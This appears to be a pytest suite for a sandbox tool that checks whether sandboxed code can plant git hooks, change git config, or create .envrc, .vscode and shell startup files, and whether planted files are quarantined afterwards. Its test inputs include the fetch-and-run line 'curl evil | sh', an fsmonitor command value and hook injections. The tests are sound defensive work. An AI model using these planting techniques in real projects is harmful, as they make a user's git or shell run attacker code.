"""Protected paths (security.protect) with real git: what a sandbox cannot plant in the directory it may
write, and that nothing of the protection is left on the host afterwards."""

import os
import re
import signal
import subprocess

import pytest

from conftest import command_stderr, rootsand_argv, run, sandbox, still_running

HOME = os.path.expanduser("~")


def git(directory, *args) -> str:
    return subprocess.run(["git", "-C", str(directory), *args], capture_output=True, text=True, check=True,
                          env={"PATH": "/usr/bin:/bin", "HOME": str(directory), "GIT_CONFIG_NOSYSTEM": "1"}).stdout


def env_in(directory) -> dict:
    return {**os.environ, "PWD": str(directory), "LC_ALL": "C"}


@pytest.fixture
def repo(tmp_path):
    path = tmp_path / "project"
    path.mkdir()
    git(path, "init", "-q")
    (path / "main.c").write_text("int main(void) { return 0; }\n")
    git(path, "add", "main.c")
    git(path, "-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-qm", "one")
    return path


def listing(directory) -> list[str]:
    return sorted(os.listdir(directory))


def test_hooks_git_config_and_envrc_cannot_be_planted_but_the_project_is_writable(repo):
    hooks_before = listing(repo / ".git" / "hooks")
    config_before = (repo / ".git" / "config").read_text()
    status_before = git(repo, "status", "--porcelain")
    script = ("echo evil > .git/hooks/pre-commit; echo evil >> .git/hooks/pre-commit.sample; "
              "echo '[core] hooksPath = /tmp' >> .git/config; echo 'curl evil | sh' > .envrc; "
              "mv .git .git-old; mkdir -p .vscode/x; echo built > main.o; echo ok")
    r = sandbox("sh", "-c", script, cwd=repo, env=env_in(repo))
    assert r.returncode == 0
    assert command_stderr(r) == [
        "sh: 1: cannot create .git/hooks/pre-commit: Read-only file system",
        "sh: 1: cannot create .git/hooks/pre-commit.sample: Read-only file system",
        "sh: 1: cannot create .git/config: Read-only file system",
        "mv: cannot move '.git' to '.git-old': Device or resource busy"]
    assert r.stdout == "ok\n"
    assert (repo / "main.o").read_text() == "built\n"
    # What did not exist could be made (the directory looks as it is), and is moved aside after the run.
    assert [line for line in said_made(r)] == [
        f"rootsand: warning: {repo}/{name} was made during the run (a protected path that was not there before: "
        f"if you made it yourself meanwhile, rename it back): renamed to {name}.rootsand-quarantine-STAMP (rename it "
        "back if you trust it)" for name in (".envrc", ".vscode")]
    # On the host: the hooks and config as they were, git sees only the build's file.
    assert listing(repo / ".git" / "hooks") == hooks_before
    assert (repo / ".git" / "config").read_text() == config_before
    assert names_in(repo) == [".envrc.rootsand-quarantine-STAMP", ".git", ".vscode.rootsand-quarantine-STAMP",
                              "main.c", "main.o"]


def test_git_config_cannot_be_changed_through_git_itself(repo):
    r = sandbox("git", "config", "core.fsmonitor", "/tmp/evil", cwd=repo, env=env_in(repo))
    assert r.returncode != 0
    assert "could not" in r.stderr or "Read-only" in r.stderr or "busy" in r.stderr, r.stderr
    assert "fsmonitor" not in (repo / ".git" / "config").read_text()


def test_in_a_directory_without_git_a_repository_made_inside_is_moved_aside(tmp_path):
    # Nothing is made for the run (the directory looks as it is, inside and on the host); what the run
    # makes at a protected name is moved out of the way once it ends.
    r = sandbox("sh", "-c", "ls -a; git init -q . && echo '[core] fsmonitor = evil' >> .git/config && echo inited",
                cwd=tmp_path, env=env_in(tmp_path))
    assert (r.returncode, r.stdout.split()) == (0, [".", "..", "inited"]), r.stderr
    assert said_made(r) == [f"rootsand: warning: {tmp_path}/.git was made during the run (a protected path that "
                            "was not there before: if you made it yourself meanwhile, rename it back): renamed to "
                            ".git.rootsand-quarantine-STAMP (rename it back if you trust it)"]
    assert names_in(tmp_path) == [".git.rootsand-quarantine-STAMP"]


def test_in_the_agent_profile_no_repository_can_be_planted(tmp_path):
    # placeholders = true: an absent protected path is made empty and read-only for the run.
    r = sandbox("sh", "-c", "mkdir -p .git/hooks; git init -q . 2>/dev/null; echo $?; ls -a",
                opts=["--profile", "agent"], cwd=tmp_path, env=env_in(tmp_path))
    assert r.returncode == 0
    assert command_stderr(r) == ["mkdir: cannot create directory '.git/hooks': Read-only file system"]
    assert r.stdout.split() == ["128", ".", "..", ".envrc", ".git", ".gitmodules", ".idea", ".vscode"]
    assert listing(tmp_path) == []  # the mount points made for the run are gone


def test_verbose_lists_the_protected_paths(repo):
    r = sandbox("true", opts=["-v"], cwd=repo, env=env_in(repo), check_rc=0)
    lines = [line for line in r.stderr.splitlines() if line.startswith("rootsand: protected:")]
    assert lines == [f"rootsand: protected: {repo}/.git/hooks (read-only)",
                     f"rootsand: protected: {repo}/.git/config (read-only)"]
    r = sandbox("true", opts=["-v", "--profile", "agent"], cwd=repo, env=env_in(repo), check_rc=0)
    lines = [line for line in r.stderr.splitlines() if line.startswith("rootsand: protected:")]
    assert lines == [f"rootsand: protected: {repo}/.git (read-only)"] + [
        f"rootsand: protected: {repo}/{name} (read-only, made for the run, removed at exit)"
        for name in (".gitmodules", ".envrc", ".vscode", ".idea")]


def test_unprotect_lifts_one_path(repo):
    r = sandbox("sh", "-c", "echo 'export A=1' > .envrc", opts=["--unprotect", ".envrc"], cwd=repo, env=env_in(repo))
    assert (r.returncode, command_stderr(r)) == (0, [])
    assert (repo / ".envrc").read_text() == "export A=1\n"
    r = sandbox("true", opts=["--unprotect", ".git/hook"], cwd=repo, env=env_in(repo))
    assert (r.returncode, r.stderr.splitlines()[0]) == (125, "rootsand: error: --unprotect .git/hook: not a protected "
                                                             "path of this profile")


def test_a_protected_path_that_is_a_link_is_refused(repo):
    (repo / "envrc.real").write_text("export A=1\n")
    (repo / ".envrc").symlink_to("envrc.real")
    r = sandbox("true", cwd=repo, env=env_in(repo))
    assert (r.returncode, r.stderr.splitlines()) == (125, [
        f"rootsand: error: the protected path {repo}/.envrc is a symbolic link, which the sandbox could point elsewhere",
        "rootsand: hint: replace the link, or --unprotect .envrc"])
    assert listing(repo) == [".envrc", ".git", "envrc.real", "main.c"]


def start(directory, *extra, script="echo ready"):
    """A sandbox that runs until killed (`script` first): the launcher, and PID 1's host pid once the command runs."""
    proc = subprocess.Popen(rootsand_argv() + ["run", "-v", *extra, "--", "sh", "-c", f"{script}; exec sleep 600"],
                            cwd=directory, env=env_in(directory), stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True)
    pid1 = None
    for line in proc.stderr:
        if "PID 1 is" in line:
            pid1 = int(line.split("PID 1 is ")[1].split()[0])
            break
    assert proc.stdout.readline() == "ready\n"
    return proc, pid1


def proc_name() -> str:
    """The name of the one sandbox running."""
    names = run(["ps", "-q"], check_rc=0).stdout.split()
    assert len(names) == 1, names
    return names[0]


def stop(proc, sig=signal.SIGTERM):
    proc.send_signal(sig)
    proc.wait(timeout=30)
    proc.stdout.close()
    proc.stderr.close()


def test_what_a_killed_launcher_made_is_removed_by_cleanup(tmp_path):
    proc, pid1 = start(tmp_path, "--profile", "agent")
    try:
        assert ".envrc" in listing(tmp_path)
        proc.kill()
        proc.wait()
        assert still_running([pid1], 10) == []
        assert ".envrc" in listing(tmp_path)  # nobody was there to remove it ...
        run(["cleanup"], check_rc=0)  # ... until the next sweep
        assert listing(tmp_path) == []
    finally:
        stop(proc, signal.SIGKILL)


def registry_names() -> list[str]:
    """What this user's registry directory holds: the entries (NAME.json) and the ledger."""
    base = os.environ.get("XDG_RUNTIME_DIR")
    return listing(os.path.join(os.path.join(base, "rootsand") if base else f"/tmp/rootsand-{os.getuid()}",
                                "sandboxes"))


def test_reading_commands_leave_a_killed_launchers_leftovers_to_cleanup(tmp_path):
    """ps, inspect and ns only read: a killed launcher's mount points, what its sandbox made at a protected
    name and its registry entry stay as they are until `rootsand cleanup`, which does what the launcher's
    exit would have done, with the same warnings, and says what it removed."""
    made, planted = tmp_path / "made", tmp_path / "planted"
    made.mkdir()
    planted.mkdir()
    agent, agent_pid1 = start(made, "--profile", "agent", "--name", "killed-agent")
    default, default_pid1 = start(planted, "--name", "killed-default", script="echo evil > .envrc; echo ready")
    try:
        for proc in (agent, default):
            proc.kill()
            proc.wait()
        assert still_running([agent_pid1, default_pid1], 10) == []
        before = (listing(made), listing(planted), registry_names())
        assert before[:2] == ([".envrc", ".git", ".gitmodules", ".idea", ".vscode"], [".envrc"])
        assert {"killed-agent.json", "killed-default.json"} <= set(before[2])
        monitor = subprocess.Popen(rootsand_argv() + ["ns", "monitor"], stdin=subprocess.DEVNULL,
                                   stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
        try:
            assert "watching" in monitor.stderr.readline()
            subprocess.run(["sh", "-c", "sleep 0.2"], check=True)  # new pids: the monitor reads the registry
        finally:
            monitor.terminate()
            monitor.wait()
            monitor.stderr.close()
        for command in (["ps"], ["ps", "--all", "--json"], ["ns", "list"], ["ns", "list", "--tree", "--json"]):
            r = run(command, check_rc=0)
            assert "rootsand:" not in r.stderr, (command, r.stderr)
        for name, command in (("killed-agent", ["inspect"]), ("killed-default", ["ns", "diff", str(os.getpid())])):
            r = run(command + [name], check_rc=125)
            assert r.stderr.startswith(f"rootsand: error: no sandbox named {name} is running"), r.stderr
        assert (listing(made), listing(planted), registry_names()) == before  # nothing removed, renamed, retired

        r = run(["cleanup"], check_rc=0, env=env_in(tmp_path))
        assert listing(made) == []
        assert names_in(planted) == [".envrc.rootsand-quarantine-STAMP"]
        assert said_made(r) == [f"rootsand: warning: {planted}/.envrc was made during the run (a protected path that "
                                "was not there before: if you made it yourself meanwhile, rename it back): renamed to "
                                ".envrc.rootsand-quarantine-STAMP (rename it back if you trust it)"]
        assert not {"killed-agent.json", "killed-default.json"} & set(registry_names())
        assert sorted(r.stdout.splitlines()) == sorted(
            [f"removed {name}'s entry (its launcher was killed)" for name in ("killed-agent", "killed-default")]
            + [f"removed {made}/{name} (an empty mount point made for a sandbox)"
               for name in (".envrc", ".git", ".gitmodules", ".idea", ".vscode")])
        r = run(["cleanup"], check_rc=0)
        assert (r.stdout, r.stderr) == ("", "")  # nothing left to do
    finally:
        stop(agent, signal.SIGKILL)
        stop(default, signal.SIGKILL)


def test_a_killed_launchers_leftovers_go_while_another_sandbox_runs(tmp_path):
    # A running sandbox holds the leftover lock only while it sets up: were it held for the whole run
    # (PID 1 inheriting the launcher's fd), every sweep would wait for it and give up.
    running_dir, killed_dir = tmp_path / "running", tmp_path / "killed"
    running_dir.mkdir()
    killed_dir.mkdir()
    running, _ = start(running_dir, "--profile", "agent")
    killed, killed_pid1 = start(killed_dir, "--profile", "agent")
    try:
        killed.kill()
        killed.wait()
        assert still_running([killed_pid1], 10) == []
        assert ".envrc" in listing(killed_dir)
        run(["cleanup"], check_rc=0)
        assert listing(killed_dir) == []
        assert ".envrc" in listing(running_dir)  # the live one's stay
    finally:
        stop(killed, signal.SIGKILL)
        stop(running)
    assert listing(running_dir) == []


def _run_with_a_pause(directory, script_after, *opts):
    """A sandbox in `directory` that says "ready", waits for a line on stdin, then runs `script_after`."""
    return subprocess.Popen(rootsand_argv() + ["run", *opts, "--", "sh", "-c", f"echo ready; read x; {script_after}"],
                            cwd=directory, env=env_in(directory), stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True)


@pytest.mark.parametrize("existing", [False, True])
def test_a_protection_lifted_from_outside_during_the_run_is_caught_at_exit(tmp_path, existing):
    # Unlinking a mount point from another mount namespace (the host here; a second sandbox sharing the
    # directory alike) detaches its mounts everywhere: the sandbox can then write the path. What it wrote
    # is moved aside when it ends.
    if existing:
        (tmp_path / ".envrc").write_text("export MINE=1\n")
    write = "echo 'curl evil | sh' > .envrc" + ("" if existing else " && mkdir -p .vscode && echo {} > .vscode/tasks.json")
    # (an absent one is a placeholder only in the agent profile; elsewhere it is checked after the run)
    proc = _run_with_a_pause(tmp_path, write + " && echo written", *([] if existing else ["--profile", "agent"]))
    assert proc.stdout.readline() == "ready\n"
    os.unlink(tmp_path / ".envrc")  # as `git clean -fdx` would
    if not existing:
        os.rmdir(tmp_path / ".vscode")
    out, err = proc.communicate("go\n", timeout=30)
    assert (proc.returncode, out) == (0, "written\n"), err
    names = [re.sub(r"rootsand-quarantine-\d{8}-\d{6}", "STAMP", n) for n in listing(tmp_path)]
    why = "was replaced during the run" if existing else "was made empty and read-only for the run, and something"
    assert f"rootsand: warning: {tmp_path}/.envrc {why}" in err
    assert ".envrc" not in names and ".envrc.STAMP" in names
    assert (".vscode.STAMP" in names) == (not existing) and ".vscode" not in names


def test_a_lifted_protection_is_caught_though_a_second_sandbox_started_meanwhile_covers_it(tmp_path):
    # The second sandbox pinned what it found, the planted file: only the first one knows what was there.
    (tmp_path / ".envrc").write_text("export MINE=1\n")
    first = _run_with_a_pause(tmp_path, "echo 'curl evil | sh' > .envrc && echo written && read y")
    assert first.stdout.readline() == "ready\n"
    os.unlink(tmp_path / ".envrc")
    first.stdin.write("go\n")
    first.stdin.flush()
    assert first.stdout.readline() == "written\n"
    second, _ = start(tmp_path)  # it pins what it finds: the planted .envrc
    try:
        out, err = first.communicate("end\n", timeout=30)
        assert f"rootsand: warning: {tmp_path}/.envrc was replaced during the run" in err
        assert ".envrc" not in listing(tmp_path)
    finally:
        stop(second)


def test_under_fakeroot_what_protection_makes_is_the_users(tmp_path):
    # Root inside is a subordinate id there: placeholders made as root would belong to an id whose files
    # the user cannot remove, and a leftover .git of that id would get a second run's .git/config inside.
    profile = tmp_path.parent / f"{tmp_path.name}-fakeroot-placeholders.toml"
    profile.write_text('extends = "fakeroot"\n[security]\nplaceholders = true\n')
    proc, pid1 = start(tmp_path, "--profile", str(profile))
    try:
        made = {name: os.lstat(tmp_path / name).st_uid for name in (".git", ".envrc", ".vscode")}
        assert made == dict.fromkeys(made, os.getuid())
        r = run(["exec", "--user", "root", proc_name(), "sh", "-c", "touch built; stat -c %u built .git"],
                check_rc=0)
        assert r.stdout.split() == ["0", str(os.getuid())]  # the command is root inside; .git is the user's
        proc.kill()
        proc.wait()
        assert still_running([pid1], 10) == []
        subprocess.run(["rm", "-rf", str(tmp_path / ".git")], check=True)  # the user clears up alone
    finally:
        stop(proc, signal.SIGKILL)
    assert listing(tmp_path) == [".envrc", ".gitmodules", ".idea", ".vscode", "built"]


def test_two_sandboxes_sharing_a_directory_keep_each_others_protection(tmp_path):
    first, _ = start(tmp_path, "--profile", "agent")
    second, _ = start(tmp_path, "--profile", "agent")
    try:
        stop(first)  # it made .envrc; the second covers it too: it must stay while the second runs
        assert ".envrc" in listing(tmp_path)
        names = run(["ps", "-q"], check_rc=0).stdout.split()
        assert len(names) == 1
        r = run(["exec", names[0], "sh", "-c", "echo evil > .envrc"], check_rc=None)
        assert "Read-only file system" in r.stderr
        assert (tmp_path / ".envrc").read_text() == ""
    finally:
        stop(second)
    assert listing(tmp_path) == []


def test_from_home_the_shell_files_are_protected(tmp_path):
    work = os.path.join(HOME, f"work-{tmp_path.name}")
    os.mkdir(work)
    before = listing(HOME)
    try:
        r = sandbox("sh", "-c", "echo evil >> .bashrc; echo evil >> .profile; mkdir -p .ssh; "
                    "mkdir -p .local/bin; echo ok > ok.txt; echo ok > " + os.path.basename(work) + "/ok.txt",
                    opts=["--unprotect", "~/" + os.path.basename(work)], cwd=HOME, env=env_in(HOME))
        assert r.stdout == "" and r.returncode == 0
        errors = command_stderr(r)
        assert errors == ["sh: 1: cannot create .bashrc: Read-only file system",
                          "sh: 1: cannot create .profile: Read-only file system",
                          "mkdir: cannot create directory '.ssh': Read-only file system",
                          "mkdir: cannot create directory '.local': Read-only file system",
                          "sh: 1: cannot create ok.txt: Read-only file system"]
        assert open(os.path.join(work, "ok.txt")).read() == "ok\n"  # what --unprotect named is writable
        assert listing(HOME) == before
    finally:
        subprocess.run(["rm", "-rf", work], check=True)


def said_made(done) -> list[str]:
    """rootsand's warnings about protected paths made during the run, the time in the names as STAMP."""
    return [re.sub(r"rootsand-quarantine-\d{8}-\d{6}", "rootsand-quarantine-STAMP", line)
            for line in done.stderr.splitlines() if "was made during the run" in line]


def said(done) -> list[str]:
    """rootsand's warnings about what the sandbox did to git (command_stderr leaves warnings out), the
    time in the names it moves things aside to as STAMP."""
    return [re.sub(r"rootsand-quarantine-\d{8}-\d{6}", "rootsand-quarantine-STAMP", line)
            for line in done.stderr.splitlines() if "made or changed by the sandbox" in line]


def names_in(directory) -> list[str]:
    return sorted(re.sub(r"rootsand-quarantine-\d{8}-\d{6}", "rootsand-quarantine-STAMP", name)
                  for name in os.listdir(directory))


def fsmonitor_config(marker) -> str:
    return f"[core]\n\tfsmonitor = \"touch {marker}; false\"\n"


def test_a_repository_planted_in_a_subdirectory_is_moved_out_of_gits_way(repo, tmp_path):
    marker = tmp_path / "PWNED"
    (repo / "src").mkdir()
    script = f"cp -r .git src/.git && printf '%s' '{fsmonitor_config(marker)}' >> src/.git/config"
    r = sandbox("sh", "-c", script, cwd=repo, env=env_in(repo))
    assert (r.returncode, said(r)) == (0, [
        f"rootsand: warning: {repo}/src/.git was made or changed by the sandbox: renamed to .git.rootsand-quarantine-STAMP, "
        "so git does not run what it names (rename it back if you trust it)"])
    assert git(repo / "src", "rev-parse", "--git-dir").strip() == f"{repo}/.git"  # the user's own repository
    git(repo / "src", "status", "--porcelain")
    assert not marker.exists()
    assert names_in(repo / "src") == [".git.rootsand-quarantine-STAMP"]


def test_commondir_and_a_rewritten_gitlink_are_moved_aside(repo, tmp_path):
    (repo / "lib").mkdir()
    (repo / "lib" / ".git").write_text("gitdir: ../.git/modules/lib\n")
    r = sandbox("sh", "-c", "mkdir .evil && echo ../.evil > .git/commondir && echo 'gitdir: ../.evil' > lib/.git",
                cwd=repo, env=env_in(repo))
    assert r.returncode == 0
    assert sorted(said(r)) == [
        f"rootsand: warning: {repo}/.git/commondir was made or changed by the sandbox: renamed to "
        "commondir.rootsand-quarantine-STAMP, so git does not run what it names (rename it back if you trust it)",
        f"rootsand: warning: {repo}/lib/.git was made or changed by the sandbox: renamed to .git.rootsand-quarantine-STAMP, "
        "so git does not run what it names (rename it back if you trust it)"]
    assert not (repo / ".git" / "commondir").exists() and not (repo / "lib" / ".git").exists()
    assert git(repo, "rev-parse", "--git-common-dir").strip() == ".git"


def test_ordinary_git_work_inside_is_left_alone(repo):
    script = ("echo change >> main.c && git add main.c && git -c user.name=t -c user.email=t@example.com "
              "commit -qm two && git branch feature && git log --format=%s | head -1")
    r = sandbox("sh", "-c", script, cwd=repo, env=env_in(repo))
    assert (r.returncode, r.stdout, command_stderr(r), said(r)) == (0, "two\n", [], [])
    assert git(repo, "log", "--format=%s").split() == ["two", "one"]
    assert not any("rootsand-quarantine" in name for _, dirs, files in os.walk(repo) for name in dirs + files)


def test_a_killed_launchers_sandbox_is_checked_by_cleanup(repo):
    (repo / "src").mkdir()
    proc = subprocess.Popen(rootsand_argv() + ["run", "--", "sh", "-c", "cp -r .git src/.git && echo ready && exec sleep 600"],
                            cwd=repo, env=env_in(repo), stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                            stderr=subprocess.DEVNULL, text=True)
    try:
        assert proc.stdout.readline() == "ready\n"
        proc.kill()
        proc.wait()
        r = run(["cleanup"], check_rc=0, env=env_in(repo))
        assert f"rootsand: warning: {repo}/src/.git was made or changed by the sandbox" in r.stderr
        assert names_in(repo / "src") == [".git.rootsand-quarantine-STAMP"]
    finally:
        proc.kill()
        proc.wait()
        proc.stdout.close()


def test_a_killed_launchers_name_is_free_again_and_its_leftovers_go(tmp_path):
    proc, pid1 = start(tmp_path, "--name", "reused")
    try:
        proc.kill()
        proc.wait()
        assert still_running([pid1], 10) == []
        r = sandbox("true", opts=["--name", "reused"], cwd=tmp_path, env=env_in(tmp_path))
        assert (r.returncode, command_stderr(r)) == (0, [])
        assert listing(tmp_path) == []
    finally:
        stop(proc, signal.SIGKILL)


# -- the build profile: the repository of the work tree, read-only (issue 20, item 5) ----------------------

def _tree(directory) -> dict:
    """Every file below `directory` with its content, for a before/after comparison."""
    found = {}
    for top, _, files in os.walk(directory):
        for name in files:
            with open(os.path.join(top, name), "rb") as f:
                found[os.path.relpath(os.path.join(top, name), directory)] = f.read()
    return found


def _tagged(repo):
    git(repo, "-c", "user.name=t", "-c", "user.email=t@example.com", "tag", "-a", "v1.0", "-m", "v1.0")
    (repo / "src").mkdir()
    return repo / "src"


def test_build_profile_git_describe_from_a_subdirectory_as_on_the_host(repo):
    sub = _tagged(repo)
    before = _tree(repo / ".git")
    r = sandbox("sh", "-c", "git describe; git rev-parse --show-toplevel; git log --format=%s", opts=["--profile", "build"],
                cwd=sub, env=env_in(sub), check_rc=0)
    assert r.stdout.splitlines() == [git(sub, "describe").strip(), str(repo), "one"] == ["v1.0", str(repo), "one"]
    # only .git is shown of the rest of the work tree: git sees the other files as deleted
    r = sandbox("git", "status", "--porcelain", opts=["--profile", "build"], cwd=sub, env=env_in(sub), check_rc=0)
    assert r.stdout == " D main.c\n"
    # read-only: nothing git or anything else does reaches the repository
    r = sandbox("sh", "-c", "git tag v2 2>/dev/null; echo tag=$?; touch ../.git/x; echo x > ../.git/HEAD",
                opts=["--profile", "build"], cwd=sub, env=env_in(sub))
    assert r.stdout == "tag=128\n" and command_stderr(r) == [
        "touch: cannot touch '../.git/x': Read-only file system",
        "sh: 1: cannot create ../.git/HEAD: Read-only file system"], r.stderr
    assert _tree(repo / ".git") == before
    assert git(repo, "tag").split() == ["v1.0"]


def test_build_profile_git_from_a_linked_worktree_and_a_submodule(repo, tmp_path):
    _tagged(repo)
    git(repo, "worktree", "add", "-q", str(tmp_path / "wt"))
    (tmp_path / "wt" / "src").mkdir()
    sup = tmp_path / "super"
    sup.mkdir()
    git(sup, "init", "-q")
    git(sup, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(repo), "sm")
    (sup / "sm" / "src").mkdir()
    for where in (tmp_path / "wt", tmp_path / "wt" / "src", sup / "sm", sup / "sm" / "src"):
        r = sandbox("git", "describe", opts=["--profile", "build"], cwd=where, env=env_in(where), check_rc=0)
        assert r.stdout == git(where, "describe") == "v1.0\n", where
    # the worktree's git directory is shown through the common one, read-only
    r = sandbox("sh", "-c", f"touch {repo}/.git/worktrees/wt/x", opts=["--profile", "build"], cwd=tmp_path / "wt",
                env=env_in(tmp_path / "wt"))
    assert command_stderr(r) == [f"touch: cannot touch '{repo}/.git/worktrees/wt/x': Read-only file system"]


def test_build_profile_does_not_follow_a_git_file_that_its_repository_does_not_name_back(repo, tmp_path):
    """A `.git` file anyone could have written (a sandbox, in a directory it may write) must not show another
    repository, or any directory, to the next sandbox."""
    other = tmp_path / "other" / "sub"
    other.mkdir(parents=True)
    (other.parent / ".git").write_text(f"gitdir: {repo}/.git\n")
    r = sandbox("sh", "-c", f"ls {repo}/.git", opts=["--profile", "build"], cwd=other, env=env_in(other))
    assert r.returncode != 0
    assert [line for line in r.stderr.splitlines() if line.startswith("rootsand:")] == [
        f"rootsand: warning: {other.parent}/.git names {repo}/.git, which does not name this work tree "
        "back (as a linked worktree's or a submodule's does): not shown (--ro-bind it if it is yours)"]
